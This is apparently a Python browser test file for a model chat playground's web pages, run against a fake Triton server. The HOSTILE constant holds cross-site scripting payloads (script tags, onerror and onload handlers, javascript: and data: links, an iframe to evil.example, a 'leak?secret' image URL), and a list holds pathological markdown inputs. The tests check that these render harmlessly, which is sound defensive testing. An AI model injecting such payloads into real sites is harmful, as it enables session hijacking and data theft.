"""The pages in a real browser, over a fake Triton that plays what a model might say."""

from __future__ import annotations

import asyncio
import math
import statistics
import time
from collections.abc import Callable
from functools import partial
from pathlib import Path

import pytest
from selenium.webdriver.common.keys import Keys

from frontend.errors import EngineFailed, TritonUnreachable, UnsupportedValue
from model_repository.contract.codec import pack_logprobs
from model_repository.contract.output import (
    Chunk,
    FinishReason,
    GenerationChunk,
    Timing,
    TokenLogprob,
    TopLogprob,
    Usage,
)
from model_repository.contract.request import ChatPrompt, GenerationRequest
from tests.browser import Browser, needs_chromium
from tests.fakes import FakeTriton, Playing, chunks, served_model
from tests.frontend.gateway.key_files import KeyFile
from tests.pictures import circle
from tests.waiting import wait_until
from tests.workshop.playground.conftest import Play, messages_of, violations

pytestmark = [needs_chromium, pytest.mark.usefixtures("servers")]

HOSTILE = (
    "<script>document.title = 'taken'</script> <img src=x onerror=\"document.title = 'taken'\">\n\n"
    "![leak](http://127.0.0.1:9/leak?secret) [press](javascript:document.title='taken') "
    "[data](data:text/html,<script>alert(1)</script>) [fine](https://example.com/a)\n\n"
    "# <b>head</b>\n\n- <iframe src=//evil.example>\n\n"
    "| a | b |\n| --- | --- |\n| <svg onload=alert(1)> | `<i>` |\n\n"
    "```html\n<script>alert(1)</script>\n```\n"
)
NUM_TOKENS = 10_000
# Notes the milliseconds from each click to the end of the frame after it. Without a screen, an idle browser draws at
# once; the loop has it draw at the rate of a screen.
NOTE_CLICKS = """
window.clicks = [];
requestAnimationFrame(function draw() { requestAnimationFrame(draw); });
addEventListener("click", (event) => requestAnimationFrame(() =>
    setTimeout(() => window.clicks.push(performance.now() - event.timeStamp))), true);
"""


def test_a_stopped_answer_stays_and_can_be_retried(browser: Browser, play: Play) -> None:
    triton = FakeTriton([GenerationChunk(text="One"), asyncio.Event()])
    play(triton)
    browser.ask("Count.")
    browser.one(".assistant .text", "One")
    browser.one("#input").send_keys(Keys.ESCAPE)
    browser.one("#send")
    wait_until(triton.closed.is_set, "the generation is cancelled")
    triton.script = chunks("One, ", "two.")
    browser.press("Retry")
    assert browser.one(".assistant .text", "two.").text == "One, two."
    assert len(browser.all(".assistant")) == 1
    assert messages_of(triton.requests[-1]) == [("user", "Count.")]


def test_an_edited_message_replaces_what_follows(browser: Browser, play: Play) -> None:
    triton = FakeTriton(chunks("Yes."))
    play(triton)
    browser.one("#system").send_keys("Be brief.")
    browser.one("#temperature").send_keys("0.5")
    for text in ("Is it so?", "Really?"):
        browser.ask(text)
        browser.one("#send")
        wait_until(lambda: browser.all(".assistant footer button"), "the answer")
    browser.run("document.querySelector('.user button').click()")
    browser.one("#editing")
    browser.one("#input").send_keys(" Tell me.", Keys.ENTER)
    wait_until(lambda: len(triton.requests) == 3, "the third request")
    assert [each.text for each in browser.all(".said")] == ["Is it so? Tell me."]
    assert messages_of(triton.requests[-1]) == [("system", "Be brief."), ("user", "Is it so? Tell me.")]
    assert triton.requests[-1].params.sampling.temperature == 0.5


def test_a_cancelled_edit_leaves_the_message_empty(browser: Browser, play: Play, tmp_path: Path) -> None:
    path = tmp_path / "circle.png"
    path.write_bytes(circle("red"))
    play(FakeTriton(chunks("A circle.")))
    browser.run("document.getElementById('file').classList.remove('hidden')")
    browser.one("#file").send_keys(str(path))
    browser.one("#attached img")
    browser.ask("What is this?")
    browser.one(".figures", "first token")
    browser.run("document.querySelector('.user button').click()")
    browser.one("#attached img")
    browser.one("#input").send_keys(Keys.ESCAPE)
    assert not browser.all("#editing") and not browser.all("#attached img")
    assert browser.one("#input").get_attribute("value") == ""


def test_a_conversation_longer_than_the_screen_shows_its_end(browser: Browser, play: Play) -> None:
    play(FakeTriton(chunks("One, ", "two.")))
    for count in range(1, 7):
        browser.ask("Count.")
        browser.one(f".assistant:nth-child({2 * count}) .details")
    is_end = "return scrollY > 0 && scrollY + innerHeight >= document.body.scrollHeight"
    wait_until(lambda: browser.run(is_end), "the end")


def test_a_field_that_the_model_ignores_is_named(browser: Browser, play: Play) -> None:
    play(FakeTriton(chunks("Yes.")))
    browser.run("document.getElementById('extra').value = '{\"thinking_budget_tokens\": 5}'")
    browser.ask("Is it so?")
    browser.one(".figures", "ignored: thinking_budget_tokens")


def test_a_model_without_probabilities_answers(browser: Browser, play: Play) -> None:
    refusal = UnsupportedValue("logprobs: the model's runtime cannot honour it", param="logprobs")
    play(FakeTriton(lambda request: [refusal] if request.params.has_logprobs else chunks("Yes.")))
    browser.ask("Is it so?")
    browser.one(".assistant .text", "Yes.")
    assert not browser.one("#probabilities").is_selected()
    assert not browser.all(".error")


def test_a_wrong_key_is_asked_for_again_and_no_key_is_stored(browser: Browser, play: Play, tmp_path: Path) -> None:
    key_file = KeyFile(tmp_path / "keys.json")
    key = key_file.add("somebody")
    play(FakeTriton(chunks("Hello.")), key_file=str(key_file.path), web_pages="on")
    browser.one("#key").send_keys("wrong", Keys.ENTER)
    browser.one("dialog", "API key")
    wait_until(lambda: browser.one("#key").get_attribute("value") == "", "the second question")
    browser.one("#key").send_keys(key, Keys.ENTER)
    browser.ask("Hello?")
    browser.one(".assistant .text", "Hello.")
    stored = browser.run("return JSON.stringify([localStorage, sessionStorage, document.cookie])")
    assert stored == '[{},{},""]'
    assert key not in browser.run("return document.documentElement.outerHTML")


def test_a_killed_engine_is_an_error_below_the_text_that_came(browser: Browser, play: Play) -> None:
    triton = FakeTriton([GenerationChunk(text="The capital"), EngineFailed()])
    play(triton)
    browser.ask("What is the capital of France?")
    assert "The engine failed" in browser.one(".assistant .error").text
    assert browser.one(".assistant .text").text == "The capital"
    triton.script = chunks("Paris.")
    browser.press("Retry")
    browser.one(".assistant .text", "Paris.")
    assert not browser.all(".error")


def test_a_hostile_answer_is_text(browser: Browser, play: Play) -> None:
    play(FakeTriton(chunks(*(HOSTILE[start : start + 3] for start in range(0, len(HOSTILE), 3)))))
    title = browser.driver.title
    browser.ask("Be evil.")
    wait_until(lambda: browser.all(".assistant footer button"), "the whole answer")
    made = browser.run("return [...document.querySelectorAll('.text *')].map((each) => each.localName)")
    assert set(made) <= {"a", "button", "code", "div", "h3", "li", "p", "pre", "table", "tbody", "td", "th", "tr", "ul"}
    links = browser.run("return [...document.querySelectorAll('.text a')].map((each) => [each.href, each.rel])")
    safe = "noopener noreferrer nofollow"
    assert links == [["http://127.0.0.1:9/leak?secret", safe], ["https://example.com/a", safe]]
    assert "<img src=x onerror" in browser.one(".text").text and "<iframe src=//evil" in browser.one(".text").text
    assert browser.driver.title == title
    assert browser.messages() == []


_RENDER = """
const [texts, num_chars, done] = arguments;
import("/pages/markdown.js").then(({ blocks }) => {
  const time = (text) => { const start = performance.now(); blocks(text); return performance.now() - start; };
  done(texts.map(([head, part, end]) => {
    const of = (length) => head + part.repeat(length / part.length) + end;
    time(of(num_chars / 8));
    return Math.min(...[1, 2, 3].map(() => time(of(num_chars)) / (time(of(num_chars / 8)) + 0.1)));
  }));
});
"""
_HOSTILE_PARTS = [
    *(("- ", " ", "\r"), ("# ", " ", "\r"), ("", "`", "\r"), ("1. ", " ", "\u2028"), ("", "\n", ""), ("", ">", "")),
    *(("", "[", ""), ("", "**a ", ""), ("", "- ", "x"), ("", "|", "\r"), ("", "> \n", ""), ("", "- a\n", "")),
]


def test_no_text_takes_more_than_its_length(browser: Browser, play: Play) -> None:
    """Quadratic were a line's pattern before a carriage return, and the removal of the first of many lines."""
    play(FakeTriton(chunks("a")))
    browser.one("#input")
    ratios = browser.driver.execute_async_script(_RENDER, _HOSTILE_PARTS, 80_000)
    assert {part: ratio for part, ratio in zip(_HOSTILE_PARTS, ratios, strict=True) if ratio > 30} == {}


def test_a_call_of_a_tool_goes_on_with_the_result_that_the_reader_types(browser: Browser, play: Play) -> None:
    call = '<tool_call>\n{"name": "get_weather", "arguments": {"city": "Paris"}}\n</tool_call>'
    triton = FakeTriton(chunks(call))
    play(triton)
    browser.run("document.querySelectorAll('aside details')[1].open = true")
    browser.press("Insert an example")
    browser.ask("How is the weather in Paris?")
    assert browser.one(".calls pre").text == 'get_weather({"city": "Paris"})'
    triton.script = chunks("It rains.")
    browser.one(".calls textarea").send_keys("rain")
    browser.press("Send results")
    browser.one(".assistant .text", "It rains.")
    assert isinstance(triton.requests[-1].prompt, ChatPrompt)
    *_, asked, result = triton.requests[-1].prompt.messages
    assert asked["tool_calls"][0]["function"]["name"] == "get_weather"
    assert (result["role"], result["content"]) == ("tool", "rain")


def test_an_image_is_sent_with_its_question(browser: Browser, play: Play, tmp_path: Path) -> None:
    path = tmp_path / "circle.png"
    path.write_bytes(circle("red"))
    triton = FakeTriton(chunks("A red circle."))
    play(triton)
    browser.run("document.getElementById('file').classList.remove('hidden')")
    browser.one("#file").send_keys(str(path))
    browser.one("#attached img")
    browser.ask("What is this?")
    browser.one(".assistant .text", "A red circle.")
    assert triton.requests[-1].images == (path.read_bytes(),)
    assert len(browser.all(".user img")) == 1
    assert browser.messages() == []


def test_thinking_is_folded_and_goes_back_with_the_history(browser: Browser, play: Play) -> None:
    thought = "<think>\nIt is easy.\n</think>"
    pieces = [GenerationChunk(text=thought, spans=(len(thought), 0)), *chunks("Yes.")]
    triton = FakeTriton(pieces, models=[served_model(reasoning_format="think", template_fields=("reasoning_content",))])
    play(triton)
    browser.ask("Is it so?")
    assert browser.one(".assistant .text", "Yes.").text == "Yes."
    assert browser.one(".thinking").text == "Thinking"
    browser.one(".thinking summary").click()
    assert browser.one(".thinking p").text == "It is easy."
    browser.ask("Really?")
    wait_until(lambda: len(triton.requests) == 2, "the second request")
    assert isinstance(triton.requests[-1].prompt, ChatPrompt)
    assert triton.requests[-1].prompt.messages[1]["reasoning_content"] == "It is easy."


def test_a_schema_that_is_no_json_is_an_error_and_no_request(browser: Browser, play: Play) -> None:
    triton = FakeTriton(chunks('{"a": 1}'))
    play(triton)
    browser.run("document.querySelector('aside details').open = true")
    browser.one("#schema").send_keys("{")
    browser.ask("Reply in JSON.")
    assert browser.one(".error").text.startswith("JSON schema: ")
    assert triton.requests == []
    browser.one("#schema").send_keys('"type": "object"}')
    browser.press("Retry")
    browser.one(".assistant .text", '{"a": 1}')
    assert triton.requests[-1].params.structured_output is not None


def test_probabilities_and_times_are_those_of_the_answer(browser: Browser, play: Play) -> None:
    top = (TopLogprob(1, b"Yes", -0.1), TopLogprob(2, b" No", -2.5))
    timing = Timing(
        arrival_time_ns=0,
        first_scheduled_time_ns=2_000_000,
        first_token_time_ns=9_000_000,
        last_token_time_ns=39_000_000,
    )
    usage = Usage(num_input_tokens=2, num_output_tokens=4, num_cached_tokens=1)
    tokens = (TokenLogprob(2, b" No", -2.5, top),)
    last = GenerationChunk(
        text=" No", logprobs=pack_logprobs(tokens), finish_reason=FinishReason.STOP, usage=usage, timing=timing
    )
    play(FakeTriton([last]))
    browser.ask("Yes?")
    assert "100 tokens/s" in browser.one(".figures", "tokens/s").text
    browser.press("Tokens")
    assert browser.one(".alternatives").text.split() == ["Yes", "90.5", "%", "·No", "8.2", "%"]
    browser.press("Time")
    assert browser.one(".legend").text.splitlines()[2:8] == ["Queue", "2 ms", "Prefill", "7 ms", "Decode", "30 ms"]
    browser.press("Prompt")
    browser.one(".tokens .cached")
    assert [each.text for each in browser.all(".tokens .cached")] == [" a"]
    for label in ("curl", "Python"):
        browser.press(label)
        assert '"role": "user"' in browser.one(".panel code").text
    browser.one(".panel .code-head button").click()
    browser.one(".panel .code-head button", "Copied")
    browser.one("#input").send_keys(Keys.CONTROL, "v")
    assert 'model="org/demo"' in browser.run("return document.getElementById('input').value")


class Paced(Playing):
    """Has about a thousand chunks in a second."""

    async def get(self) -> Chunk:
        await asyncio.sleep(0.0005)
        return await super().get()


class LongAnswer(FakeTriton):
    """Says many tokens with their alternatives."""

    def __init__(self) -> None:
        top = tuple(TopLogprob(place, b"word ", -1.0 - place) for place in range(5))
        texts = ["word\n\n" if place % 100 == 0 else "word " for place in range(1, NUM_TOKENS)]
        pieces = [
            GenerationChunk(text=text, logprobs=pack_logprobs([TokenLogprob(1, text.encode(), -1.0, top)]))
            for text in texts
        ]
        usage = Usage(num_input_tokens=2, num_output_tokens=NUM_TOKENS)
        last = GenerationChunk(text="end", finish_reason=FinishReason.STOP, usage=usage)
        super().__init__([*pieces, last])

    def running(
        self, ensemble: str, request: GenerationRequest, on_end: Callable[[Usage | None], None] = lambda _: None
    ) -> Playing:
        return Paced(self, request, on_end)


def test_a_click_during_10000_tokens_takes_at_most_twice_the_time_of_an_idle_page(browser: Browser, play: Play) -> None:
    play(LongAnswer())
    browser.driver.execute_cdp_cmd("Emulation.setCPUThrottlingRate", {"rate": 4})  # a phone
    browser.run(NOTE_CLICKS)

    def has_noted(num_clicks: int) -> bool:
        return len(browser.run("return window.clicks")) == num_clicks

    def median_of_clicks(num_clicks: int, is_going_on: Callable[[], bool]) -> float:
        browser.run("window.clicks = []")
        target = browser.one("header h1")
        for count in range(1, num_clicks + 1):
            target.click()
            wait_until(partial(has_noted, count), "the click's frame")
            if not is_going_on():
                break
        times = browser.run("return window.clicks")
        return statistics.median(times) if len(times) > 10 else math.inf

    def ratio() -> float:
        browser.press("New chat")
        idle_ms = median_of_clicks(40, lambda: True)
        browser.ask("Tell me everything.")
        wait_until(lambda: browser.run("return document.querySelectorAll('.text p').length") > 1, "a paragraph")
        busy_ms = median_of_clicks(10_000, lambda: bool(browser.all("#stop")))
        browser.one(".figures", "10,000 tokens")
        return busy_ms / idle_ms

    try:
        # Other processes may take the cores during one of the measurements.
        assert any(ratio() <= 2 for _ in range(3))
    finally:
        browser.driver.execute_cdp_cmd("Emulation.setCPUThrottlingRate", {"rate": 1})


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 1280])
def test_the_pages_are_accessible(browser: Browser, play: Play, scheme: str, width: int) -> None:
    top = (TopLogprob(1, b"Yes", -0.1), TopLogprob(2, b" No", -4.5))
    answer = "**Yes**, see [this](https://example.com).\n\n```py\nx = 1\n```\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n"
    tokens = (TokenLogprob(1, answer.encode(), -0.1, top), TokenLogprob(2, b"No", -4.5, top))
    last = GenerationChunk(
        text=answer,
        logprobs=pack_logprobs(tokens),
        finish_reason=FinishReason.STOP,
        usage=Usage(num_input_tokens=2, num_output_tokens=1),
    )
    browser.resize(width, 900, scheme=scheme)
    served = play(FakeTriton([last]))
    browser.one("#model option")
    assert violations(browser) == []
    browser.ask("Yes?")
    for label in ("Tokens", "Prompt", "curl"):
        browser.press(label)
        browser.one(".panel")
        assert violations(browser) == [], label
    for button in browser.all(".toggle"):
        button.click()
        assert violations(browser) == [], button.text
    browser.open(f"{served.url}/docs")
    browser.one("summary").click()
    assert violations(browser) == []
    browser.open(served.operations_url)
    browser.one(".model")
    assert violations(browser) == []


def test_the_description_of_the_api_finds_a_field(browser: Browser, play: Play) -> None:
    browser.open(f"{play(FakeTriton()).url}/docs")
    browser.one("#filter").send_keys("min_p")
    browser.one("td code", "min_p")
    paths = [each.text for each in browser.all(".path")]
    assert paths == ["/v1/chat/completions", "/v1/completions"]
    assert browser.messages() == []


def test_an_endpoint_begins_beside_its_triangle_on_a_phone(browser: Browser, play: Play) -> None:
    browser.resize(390, 900)
    browser.open(f"{play(FakeTriton()).url}/docs")
    browser.one("summary")
    top = "getBoundingClientRect().top"
    below = f"[...document.querySelectorAll('summary')].map((each) => each.querySelector('.method').{top} - each.{top})"
    assert max(browser.run(f"return {below}")) < 25


def test_the_type_of_a_field_leads_to_its_table(browser: Browser, play: Play) -> None:
    browser.open(f"{play(FakeTriton()).url}/docs")
    browser.one("#filter").send_keys("response_format")
    browser.one("main > details:first-of-type tr:not([hidden]) a", "ResponseFormat").click()
    browser.one("main > details:first-of-type div:target code", "json_schema")


def test_the_status_page_says_what_fails_and_since_when(
    browser: Browser, play: Play, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("frontend.triton.health_monitor.STATS_INTERVAL_S", 0.05)
    triton = FakeTriton(chunks("x"))
    served = play(triton)
    browser.open(served.operations_url)
    assert browser.one(".model .state").text == "ready"
    assert browser.one("#failures").text == "None."
    before = time.strftime("%H:%M")
    triton.stats_error = EngineFailed()
    down = browser.one("#failures tr", "engine down")
    assert before <= down.text.split()[-1] <= time.strftime("%H:%M:%S")
    triton.stats_error = triton.snapshot_error = TritonUnreachable()
    browser.one("#state", "not ready")
